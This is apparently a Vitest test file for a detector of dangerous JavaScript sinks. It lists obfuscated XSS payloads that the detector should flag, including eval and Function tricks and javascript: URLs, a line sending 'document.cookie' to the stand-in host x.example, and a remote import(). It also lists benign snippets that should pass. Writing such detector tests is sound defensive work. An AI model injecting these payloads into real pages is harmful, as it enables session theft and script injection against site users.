import { expect, it } from 'vitest';
import { readScript } from './read.ts';

it.each([
  'alert(1)',
  'alert`1`',
  '(alert)(1)',
  '(0,eval)("x")',
  'window.alert(1)',
  'top["al"+"ert"](1)',
  'this[/al/.source+/ert/.source](1)',
  'self?.["confirm"]?.(1)',
  'a=alert,a(1)',
  '[1].map(confirm)',
  'onerror=eval;throw "=1"',
  'new Function("x")()',
  '[].constructor.constructor("x")()',
  'setTimeout("x",1)',
  'setTimeout(location.hash.slice(1))',
  'location="javascript:x"',
  'document.location.href="//x.example"',
  'location=name',
  'new Image().src="//x.example/?"+document.cookie',
  'fetch("//x.example")',
  'import("https://x.example/a.js")',
  'a="java"+"script:x";open(a)',
  'a/**/./**/b;/*c*/alert/**/(1)',
  '`${alert(1)}`',
  '[].sort.call`${alert}1`',
])('%j does what attacks do', (code) => {
  expect(readScript(code, { readable: 4096 }).sink).toBe(true);
});

it.each([
  'alert',
  'confirm (yes or no)',
  'return false',
  'this.src="a.png"',
  'window.open(this.href)',
  'setTimeout(() => go(), 10)',
  'fetch("/api/orders")',
  'import("./a.js")',
  'const location = "Paris"',
  'location="Paris"',
  'this.handlers[event](value)',
  'list[i](x)',
  'x.replace("//", "/")',
  '"alert(1)"',
  '// alert(1)',
  '/alert(1)/',
  'generate(prompt, options, more, and, yet, more, of, them, here, too)',
])('%j does not', (code) => {
  expect(readScript(code, { readable: 4096 }).sink).toBe(false);
});

it('tells sentences from code', () => {
  expect(readScript('please confirm the order', { readable: 4096 }).prose).toBeGreaterThan(0);
  expect(readScript('if (a) return new B(c), d in e', { readable: 4096 }).prose).toBe(0);
});
